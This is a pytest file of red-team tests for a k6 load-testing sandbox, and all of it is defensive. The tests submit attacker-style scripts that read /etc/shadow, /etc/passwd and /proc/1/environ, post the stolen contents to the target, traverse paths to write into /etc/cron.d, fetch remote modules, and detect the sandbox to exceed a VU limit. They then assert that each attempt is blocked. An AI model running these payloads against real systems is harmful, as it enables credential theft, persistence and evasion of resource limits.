"""Red team: hand-written scripts against the kernel sandbox, through the API as an attacker
would send them. A listener on 127.0.0.2 stands in for production and counts every connection
that reaches it; nothing may, and no file outside a run's own directory may be read or
written."""

from __future__ import annotations

import asyncio
import uuid
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from httpx import AsyncClient
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from app.core.settings import Settings
from app.k6 import sandbox
from app.runs.worker import Worker
from tests.builders import API, approve
from tests.k6.test_sandbox import Listener

pytestmark = [
    pytest.mark.k6,
    pytest.mark.skipif(
        not sandbox.status(Settings()).available,
        reason=f"no sandbox here: {sandbox.status(Settings()).reason} (.ci/run installs it)",
    ),
]


@pytest.fixture
def production() -> Any:
    listener = Listener("127.0.0.2")
    yield listener
    listener.close()


def script_plan(target: str, script: str) -> dict[str, Any]:
    return {
        "name": f"attack-{uuid.uuid4().hex[:6]}",
        "target": {"base_url": target, "environment": "local"},
        "script": script,
        "slos": ["error_rate < 100%"],
    }


async def run_script(
    client: AsyncClient,
    committed: async_sessionmaker[AsyncSession],
    settings: Settings,
    target: str,
    script: str,
) -> dict[str, Any]:
    stored = await client.post(f"{API}/plan", json=script_plan(target, script))
    assert stored.status_code == 201, stored.text
    plan = stored.json()
    await approve(client, plan)
    queued = await client.post(f"{API}/execute", json={"plan_id": plan["id"]})
    assert queued.status_code == 202, queued.text

    await Worker(committed, settings).run_once()

    run: dict[str, Any] = (await client.get(f"{API}/runs/{queued.json()['id']}")).json()
    return run


async def test_reading_the_machines_files_at_plan_time_is_refused(
    committed_client: AsyncClient, demo_target: str
) -> None:
    for path in ("/etc/shadow", "../../../etc/passwd", "/proc/1/environ"):
        script = f"const stolen = open('{path}');\nexport default function () {{}}\n"

        response = await committed_client.post(f"{API}/plan", json=script_plan(demo_target, script))

        assert response.status_code == 422, response.text
        assert response.json()["code"] == "plan.script_rejected"
        assert "root:" not in response.text


async def test_a_script_that_hides_its_reads_gets_nothing_back_in_its_run(
    committed_client: AsyncClient,
    committed: async_sessionmaker[AsyncSession],
    settings: Settings,
    demo_target: str,
) -> None:
    script = (
        "import http from 'k6/http';\n"
        "function peek(p) { try { return open(p); } catch (e) { return ''; } }\n"
        "const stolen = peek('/etc/passwd') + peek('/etc/shadow');\n"
        "export const options = { vus: 1, iterations: 1 };\n"
        "export default function () {\n"
        "  console.log('stolen=' + stolen.length);\n"
        f"  http.post('{demo_target}/api/orders', stolen);\n"
        "}\n"
    )

    run = await run_script(committed_client, committed, settings, demo_target, script)

    assert "stolen=0" in run["stderr_tail"], run["stderr_tail"]
    assert "root:" not in str(run)


async def test_handle_summary_cannot_write_outside_the_run(
    committed_client: AsyncClient,
    committed: async_sessionmaker[AsyncSession],
    settings: Settings,
    demo_target: str,
) -> None:
    target = Path(f"/tmp/perf-agent-pwned-{uuid.uuid4().hex}")
    script = (
        "export const options = { vus: 1, iterations: 1 };\n"
        "export default function () {}\n"
        f"export function handleSummary(d) {{ return {{ '{target}': 'pwned',"
        f" '../../../../../../..{target}-2': 'pwned', '/etc/cron.d/pwned': 'x' }}; }}\n"
    )

    run = await run_script(committed_client, committed, settings, demo_target, script)

    assert run["finished"], run
    written = await asyncio.to_thread(
        lambda: [p for p in (target, Path(f"{target}-2"), Path("/etc/cron.d/pwned")) if p.exists()]
    )
    assert written == []


async def test_a_remote_module_on_a_denied_address_is_never_fetched(
    committed_client: AsyncClient, demo_target: str, production: Listener
) -> None:
    for importer in (
        f"import m from '{production.url}/m.js';",
        f"const m = require('{production.url}/m.js');",
    ):
        script = importer + "\nexport default function () {}\n"

        response = await committed_client.post(f"{API}/plan", json=script_plan(demo_target, script))

        assert response.status_code == 422, response.text
    assert production.connections == 0


async def test_requests_to_a_denied_address_never_leave_and_the_run_does_not_pass(
    committed_client: AsyncClient,
    committed: async_sessionmaker[AsyncSession],
    settings: Settings,
    demo_target: str,
    production: Listener,
) -> None:
    script = (
        "import http from 'k6/http';\n"
        "export const options = { vus: 2, iterations: 10 };\n"
        f"export default function () {{ http.get('{production.url}/', {{ timeout: '2s' }}); }}\n"
    )

    run = await run_script(committed_client, committed, settings, demo_target, script)

    assert production.connections == 0
    assert run["status"] == "failed", run
    assert "guardrail.egress_blocked" in run["error"]
    kinds = {(e["kind"], (e["data"] or {}).get("code")) for e in run["events"]}
    assert ("guardrail", "guardrail.egress_blocked") in kinds


async def test_a_script_that_runs_more_vus_than_it_was_inspected_with_is_stopped_at_once(
    committed_client: AsyncClient,
    committed: async_sessionmaker[AsyncSession],
    settings: Settings,
    demo_target: str,
    record_property: Any,
) -> None:
    # Inspected (at plan time and again at claim) it sees no network and an /etc/hosts of two
    # lines; running, it sees a third, the target's: 1 VU when measured, 8 when it runs.
    settings.max_vus = 5
    script = (
        "import http from 'k6/http';\nimport { sleep } from 'k6';\n"
        "const running = open('/etc/hosts').trim().split('\\n').length > 2;\n"
        "export const options = { vus: running ? 8 : 1, duration: '30s' };\n"
        f"export default function () {{ http.get('{demo_target}/health'); sleep(0.2); }}\n"
    )
    stored = await committed_client.post(f"{API}/plan", json=script_plan(demo_target, script))
    assert stored.status_code == 201, stored.text
    assert stored.json()["spec"]["load"]["max_vus"] == 1

    run = await run_script(committed_client, committed, settings, demo_target, script)

    assert run["status"] == "failed", run
    assert "guardrail.vu_ceiling" in run["error"]
    [stop] = [e for e in run["events"] if (e["data"] or {}).get("code") == "guardrail.vu_ceiling"]
    assert stop["data"]["vus"] > 1
    samples = await _samples(committed_client, run["id"])
    first_over = min(s["at"] for s in samples if s["vus"] > 1)
    k6_ended = datetime.fromisoformat(run["finished_at"])
    # From the start of the first second k6 ran 8 VUs to the run's end (k6 gone, results
    # stored): the guardrail acts on the VU count as soon as k6 reports it.
    to_event = (datetime.fromisoformat(stop["at"]) - first_over).total_seconds()
    to_end = (k6_ended - first_over).total_seconds()
    record_property("ceiling_event_s", to_event)  # bench/sandbox.py reads these (JUnit XML)
    record_property("ceiling_run_end_s", to_end)
    # The VU count arrives with the push after the second it describes (remote write, once a
    # second): within two seconds on a quiet machine, 2.2 s seen under the full suite.
    assert to_event <= 3.0
    # The run's end adds k6's graceful stop and storing results. On the remote-write live path
    # k6 reports its VUs in its once-a-second push: 2.01 s measured once (JSON path 0.4-1.3 s).
    assert to_end <= 3.0


async def _samples(client: AsyncClient, run_id: str) -> list[dict[str, Any]]:
    samples: list[dict[str, Any]] = []
    async with client.stream("GET", f"{API}/runs/{run_id}/stream") as response:
        event = ""
        async for line in response.aiter_lines():
            if line.startswith("event:"):
                event = line[6:].strip()
            elif line.startswith("data:") and event == "sample":
                import json

                data = json.loads(line[5:])
                data["at"] = datetime.fromisoformat(data["at"])
                samples.append(data)
            elif event == "end":
                break
    return samples
